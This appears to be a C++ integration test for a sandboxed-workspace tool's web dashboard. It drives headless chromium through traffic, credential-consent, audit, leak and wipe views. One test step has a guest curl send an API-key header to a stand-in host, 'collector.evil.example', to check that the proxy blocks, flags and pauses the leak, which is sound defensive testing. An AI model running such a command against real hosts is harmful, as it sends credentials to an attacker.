// The dashboard against a real running workspace (issue 19's dashboard proof), ONE boot under TCG
// with the test image: the real `cloister ui` binary serves the store while the workspace's real
// supervisor runs, and Debian's headless chromium drives the page over CDP (cdp_browser.h).
// Guest curl goes through the supervisor's proxy to a local TLS fake reached by
// CLOISTER_PROXY_RESOLVE (resolve-only: nothing leaves 127.0.0.1). In order:
//   - the workspaces view matches `ls --json` (running);
//   - a guest request appears in the live traffic view (no reload), with its swap;
//   - `cred policy ws github --ask once`: a guest curl using the github placeholder waits; the
//     consent view shows the REAL broker's question; "5 minutes" lets it through (the fake sees
//     the real token, the trace records the decision); a second request passes with no question;
//   - the residue audit's picture comes from a real `cloister audit residue ws` run by the page;
//   - the anthropic placeholder sent to a foreign host trips the detector: the leaks view names
//     the credential and host, 451, the pause and the wipe required;
//   - wipe through the page asks with the CLI's text, then the workspace is wiped (`ls --json`).
// Screenshots of each view go to docs/ui/ (CLOISTER_UI_SCREENSHOTS=0 skips them).
#include <fcntl.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <iostream>
#include <string>
#include <thread>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "base/strings.h"
#include "base/subprocess.h"
#include "cli/disposal_prompts.h"
#include "proxy/ca.h"
#include "proxy/fake_upstream.h"
#include "supervisor/testing.h"
#include "supervisor/workspace.h"
#include "ui/cdp_browser.h"
#include "ui/traffic.h"

namespace cloister::ui {
namespace {

using json = nlohmann::json;
using Clock = std::chrono::steady_clock;
using testing::Browser;

const std::string kReal =
    "sk-ant-api03-REALxKEYxONLYxONxTHExHOSTx0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWX-_AA";
const std::string kRealGithub = "ghp_REALxGITHUBxTOKENxONLYxONxHOSTx01234";

class UiVmTest : public vm::testing::CliVmTest {
 protected:
  void TearDown() override {
    browser_.reset();
    if (ui_pid_ > 0) {
      kill(ui_pid_, SIGTERM);
      int status = 0;
      waitpid(ui_pid_, &status, 0);
      ui_pid_ = -1;
    }
    CliVmTest::TearDown();
  }
  // `cloister ui --json` with env_ (the real binary, as a person runs it): returns its URL.
  std::string StartUi() {
    int out[2];
    if (pipe2(out, O_CLOEXEC) != 0) return "";
    ui_pid_ = fork();
    if (ui_pid_ == 0) {
      dup2(out[1], 1);
      int null = open("/dev/null", O_RDWR);
      dup2(null, 0);
      for (const auto& entry : env_) setenv(entry.first.c_str(), entry.second.c_str(), 1);
      execl(exe_.c_str(), exe_.c_str(), "--store", root_.c_str(), "ui", "--json", nullptr);
      _exit(127);
    }
    close(out[1]);
    FILE* f = fdopen(out[0], "r");
    char* line = nullptr;
    size_t cap = 0;
    ssize_t n = getline(&line, &cap, f);
    std::string first = n > 0 ? std::string(line, n) : "";
    free(line);
    fclose(f);
    json j = json::parse(first, nullptr, false);
    return j.is_object() ? j.value("url", "") : "";
  }
  // The workspace's trace records, read as the dashboard reads them.
  std::vector<proxy::TraceRecord> Trace() {
    auto chunk = ReadTraceFrom(store_->Paths("ws").trace_log, 0);
    return chunk.ok() ? chunk->records : std::vector<proxy::TraceRecord>{};
  }

  pid_t ui_pid_ = -1;
  std::unique_ptr<Browser> browser_;
};

TEST_F(UiVmTest, DashboardShowsARealWorkspaceItsTrafficConsentLeaksAuditAndWipes) {
  if (!ProgramExists("chromium")) GTEST_SKIP() << "no chromium (scripts/install-deps.sh test)";
  auto upstream_ca = proxy::CertAuthority::CreateInMemory("test upstream CA");
  ASSERT_TRUE(upstream_ca.ok());
  std::string ca_file = root_ + "/upstream-ca.pem";
  std::ofstream(ca_file) << (*upstream_ca)->cert_pem();
  auto fake = proxy::testing::FakeUpstream::Start(
      *upstream_ca, [&](const proxy::testing::SeenRequest& r, proxy::testing::ResponseWriter& w) {
        if (r.sni == "api.github.com") {
          if (r.Header("authorization") == "token " + kRealGithub) {
            w.Send(200, {{"Content-Type", "application/json"}}, "{\"login\":\"octocat\"}");
          } else {
            w.Send(401, {{"Content-Type", "application/json"}}, "{\"message\":\"Bad credentials\"}");
          }
          return;
        }
        w.Send(200, {{"content-type", "application/json"}}, "{\"type\":\"message\",\"fake\":true}");
      });
  ASSERT_TRUE(fake.ok());
  const std::string addr = (*fake)->Address();
  std::string resolve;
  for (const char* h : {"api.anthropic.com", "api.github.com", "collector.evil.example"}) {
    resolve += std::string(resolve.empty() ? "" : ",") + h + ":443=" + addr;
  }
  env_ = {{"CLOISTER_PROXY_RESOLVE", resolve},
          {"CLOISTER_PROXY_UPSTREAM_CA", ca_file},
          {"CLOISTER_VAULT_KEY_BACKEND", "file"}};
  auto seen = [&](const std::string& sni) {
    std::vector<proxy::testing::SeenRequest> out;
    for (const auto& r : (*fake)->requests()) {
      if (r.sni == sni) out.push_back(r);
    }
    return out;
  };

  Create("ws");
  ASSERT_EQ(Cloister({"cred", "add", "ws", "anthropic"}, kReal + "\n").exit_code, 0);
  ASSERT_EQ(Cloister({"cred", "add", "ws", "github"}, kRealGithub + "\n").exit_code, 0);
  auto policy = Cloister({"cred", "policy", "ws", "github", "--ask", "once"});
  ASSERT_EQ(policy.exit_code, 0) << policy.err;
  ASSERT_NO_FATAL_FAILURE(Start("ws"));

  const std::string url = StartUi();
  ASSERT_EQ(url.rfind("http://", 0), 0u) << url;
  ASSERT_NE(url.find(".localhost:"), std::string::npos) << url;  // the per-run name
  const std::string base = url.substr(0, url.find("/?token="));
  browser_ = std::make_unique<Browser>();
  Browser& b = *browser_;
  ASSERT_TRUE(b.Start(testing::CdpScript())) << "chromium did not start under the CDP driver";
  b.ShotsTo(std::string(std::getenv("CLOISTER_SOURCE_DIR")) + "/docs/ui");

  // 1. The workspaces view: the real running workspace, as `ls --json` shows it.
  b.Go(url);
  b.Wait("document.querySelector('#workspaces tbody tr[data-name=\"ws\"] .c-state') !== null && "
         "document.querySelector('#workspaces tbody tr[data-name=\"ws\"] .c-state').textContent "
         "=== 'running'");
  json ls = json::parse(Cloister({"ls", "--json"}).out, nullptr, false);
  ASSERT_TRUE(ls.is_array() && ls.size() == 1) << ls.dump();
  json row = b.Eval(
      "(() => { const r = document.querySelector('#workspaces tbody tr[data-name=\"ws\"]');"
      " return {state: r.querySelector('.c-state').textContent,"
      " image: r.querySelector('.c-image').textContent,"
      " compromised: r.querySelector('.c-compromised').textContent !== 'no'}; })()");
  EXPECT_EQ(row["state"], ls[0]["state"]);
  EXPECT_EQ(row["image"], ls[0]["image"]);
  EXPECT_EQ(row["compromised"], ls[0]["compromised"]);
  b.Shot("workspaces.png");
  b.Go(base + "/#/ws/ws");
  b.Wait("document.querySelector('#view button[data-action=\"wipe\"]') !== null");
  b.Shot("workspace.png");

  // 2. Live traffic: the view is open before the guest sends; the row arrives without a reload.
  b.Go(base + "/#/traffic/ws");
  b.Wait("document.getElementById('traffic') !== null");
  int code = -1;
  std::string answer = Exec(
      "ws",
      "curl -sS --max-time 120 -H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'content-type: "
      "application/json' -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[]}' "
      "https://api.anthropic.com/v1/messages",
      &code);
  EXPECT_EQ(code, 0) << answer;
  EXPECT_EQ(answer, "{\"type\":\"message\",\"fake\":true}");
  ASSERT_EQ(seen("api.anthropic.com").size(), 1u);
  EXPECT_EQ(seen("api.anthropic.com")[0].Header("x-api-key"), kReal);
  b.Wait("document.querySelector('#traffic tr[data-host=\"api.anthropic.com\"]') !== null", 120);
  std::string notes = b.Eval(
      "document.querySelector('#traffic tr[data-host=\"api.anthropic.com\"]').textContent");
  EXPECT_NE(notes.find("POST"), std::string::npos) << notes;
  EXPECT_NE(notes.find("200"), std::string::npos) << notes;
  EXPECT_NE(notes.find("anthropic"), std::string::npos) << "the swap is shown: " << notes;
  EXPECT_EQ(b.Eval("document.getElementById('traffic-count').textContent"), "1 request");
  b.Shot("traffic.png");

  // 3. Consent from the real broker: the guest's request waits until the page answers.
  const std::string gh_curl =
      "curl -sS --max-time 200 -o /tmp/gh.out -w '%{http_code}' -H \"Authorization: token "
      "$GH_TOKEN\" https://api.github.com/user; echo; cat /tmp/gh.out";
  std::string first_out;
  int first_code = -1;
  std::thread first([&] { first_out = Exec("ws", gh_curl, &first_code); });
  b.Go(base + "/#/consent");
  json question = b.Wait(
      "(() => { const q = document.querySelector('#consent .question[data-workspace=\"ws\"]');"
      " return q && {cred: q.querySelector('.c-cred').textContent,"
      " request: q.querySelector('.c-request').textContent,"
      " grants: [...q.querySelectorAll('button')].map(x => x.dataset.grant)}; })()",
      240);
  if (!question.is_object()) question = json::object();
  EXPECT_TRUE(seen("api.github.com").empty()) << "nothing goes upstream before the grant";
  EXPECT_EQ(question.value("cred", ""), "github") << question.dump();
  EXPECT_EQ(question.value("request", ""), "GET api.github.com/user") << question.dump();
  EXPECT_EQ(question.value("grants", json()), json({"request", "5m", "1h", "vm", "deny"}));
  b.Shot("consent.png");
  b.Eval("document.querySelector('#consent .question[data-workspace=\"ws\"] "
         "button[data-grant=\"5m\"]').click(), true");
  first.join();
  EXPECT_EQ(first_code, 0) << first_out;
  EXPECT_EQ(first_out.rfind("200\n", 0), 0u) << first_out;
  EXPECT_NE(first_out.find("octocat"), std::string::npos) << first_out;
  ASSERT_EQ(seen("api.github.com").size(), 1u);
  EXPECT_EQ(seen("api.github.com")[0].Header("authorization"), "token " + kRealGithub);
  b.Wait("document.getElementById('no-consent') !== null");
  // The second use within 5 minutes: no question (nobody would answer it: it would be refused
  // after the broker's timeout), the grant covers it.
  std::string second = Exec("ws", gh_curl, &code);
  EXPECT_EQ(second.rfind("200\n", 0), 0u) << second;
  EXPECT_EQ(seen("api.github.com").size(), 2u);
  std::vector<std::string> decisions;
  for (const auto& r : Trace()) {
    for (const auto& c : r.consent) {
      if (c.credential == "github") decisions.push_back(c.decision + (c.asked ? "+asked" : ""));
    }
  }
  EXPECT_EQ(decisions, (std::vector<std::string>{"5m+asked", "grant"}));

  // 4. The residue audit, run by the page: `cloister audit residue ws --json` in the ui process
  // against the running VM; the picture has one strip per disk of the report it got.
  b.Go(base + "/#/audit/ws");
  b.Wait("document.getElementById('run-audit') !== null");
  b.Eval("document.getElementById('run-audit').click(), true");
  // The page says "audit of ws done" and then renders the report (route() fetches it again):
  // wait for the disks, or for the status to name a failure; "done" alone is not the end.
  b.Wait("document.querySelectorAll('#audit .disk').length > 0 || "
         "(document.getElementById('status').textContent.startsWith('audit of ') && "
         "!document.getElementById('status').textContent.endsWith(' done'))",
         1200);
  json devices = b.Eval("[...document.querySelectorAll('#audit .disk')].map(d => d.dataset.device)");
  json report = b.Eval(
      "fetch('/api/workspaces/ws/audit', {credentials: 'same-origin'}).then(r => r.json())");
  if (!report.is_object() || !report.contains("disks")) {
    auto tail = [](const std::string& text) {
      return text.size() > 4000 ? text.substr(text.size() - 4000) : text;
    };
    vm::RunPaths paths = vm::RunPathsFor(*store_, "ws");
    std::cerr << "[console log]\n" << tail(vm::testing::Slurp(paths.console_log))
              << "\n[supervisor log]\n" << tail(vm::testing::Slurp(paths.supervisor_log)) << "\n";
  }
  ASSERT_TRUE(report.is_object() && report.contains("disks")) << report.dump().substr(0, 2000)
      << " status: " << b.Eval("document.getElementById('status').textContent");
  json want = json::array();
  for (const auto& d : report["disks"]) want.push_back(d.value("device", ""));
  EXPECT_EQ(devices, want);
  EXPECT_GE(want.size(), 2u) << "system disk and home: " << report.dump().substr(0, 2000);
  b.Shot("audit.png");

  // 5. The anthropic placeholder toward a host outside its scope: 451, compromised, paused. The
  // pause may freeze the guest before curl's status comes back: a host-side bound on the exec.
  {
    RunOptions o;
    o.timeout = std::chrono::seconds(120);
    o.env_set = env_;
    auto r = RunProcess({exe_, "--store", root_, "exec", "ws", "--", "sh", "-c",
                         "curl -sS --max-time 100 -o /dev/null -w '%{http_code}' -H \"x-api-key: "
                         "$ANTHROPIC_API_KEY\" https://collector.evil.example/collect"},
                        o);
    ASSERT_TRUE(r.ok());
    EXPECT_FALSE(r->timed_out);
  }
  EXPECT_TRUE(seen("collector.evil.example").empty()) << "the leak must not be forwarded";
  ASSERT_TRUE(vm::testing::WaitFor(
      [&] {
        auto c = store_->LoadConfig("ws");
        return c.ok() && c->compromised && Cloister({"ls", "--json"}).out.find("\"paused\"") !=
                                               std::string::npos;
      },
      std::chrono::seconds(120)));
  b.Go(base + "/#/leaks");
  b.Wait("document.querySelector('#leaks tr[data-credential=\"anthropic\"]') !== null", 60);
  // The audit's "done" stayed on the audit view (this run's screenshots showed it on every view).
  EXPECT_EQ(b.Eval("document.getElementById('status').textContent"), "");
  json leak = b.Eval(
      "(() => { const r = document.querySelector('#leaks tr[data-credential=\"anthropic\"]');"
      " return {host: r.querySelector('.c-host').textContent,"
      " next: r.querySelector('.c-next').textContent}; })()");
  EXPECT_EQ(leak["host"], "collector.evil.example");
  EXPECT_EQ(leak["next"], "refused with 451; VM paused; wipe required");
  b.Shot("leaks.png");
  // The same refusal in the traffic view, filtered to refusals.
  b.Go(base + "/#/traffic/ws");
  b.Wait("document.getElementById('f-only') !== null");
  b.Eval("(() => { const s = document.getElementById('f-only'); s.value = 'refused';"
         " s.dispatchEvent(new Event('change')); return true; })()");
  b.Wait("document.getElementById('f-only') && document.getElementById('f-only').value === "
         "'refused' && document.querySelector('#traffic tr[data-host=\"collector.evil.example\"]') "
         "!== null && document.querySelectorAll('#traffic tbody tr').length === 1");
  b.Shot("traffic-refused.png");

  // 6. Wipe through the page: the CLI's question first, then the real verb.
  b.Go(base + "/#/ws/ws");
  b.Wait("document.querySelector('#view button[data-action=\"wipe\"]') !== null");
  b.Eval("document.querySelector('#view button[data-action=\"wipe\"]').click(), true");
  b.Wait("!document.getElementById('confirm').hidden");
  auto config = store_->LoadConfig("ws");
  ASSERT_TRUE(config.ok());
  EXPECT_EQ(b.Eval("document.getElementById('confirm-text').textContent"),
            cli::WipePrompt(*config));
  b.Shot("confirm-wipe.png");
  b.Eval("document.getElementById('confirm-yes').click(), true");
  json status = b.Wait("document.getElementById('status').textContent.startsWith('Wiped') && "
                       "document.getElementById('status').textContent",
                       600);
  EXPECT_TRUE(status.is_string()) << b.Eval("document.getElementById('status').textContent");
  ls = json::parse(Cloister({"ls", "--json"}).out, nullptr, false);
  ASSERT_TRUE(ls.is_array() && ls.size() == 1) << ls.dump();
  EXPECT_EQ(ls[0]["state"], "stopped") << ls.dump();
  EXPECT_EQ(ls[0]["compromised"], false) << ls.dump();
  EXPECT_EQ(ls[0]["checkpoints"], 0) << ls.dump();
}

}  // namespace
}  // namespace cloister::ui
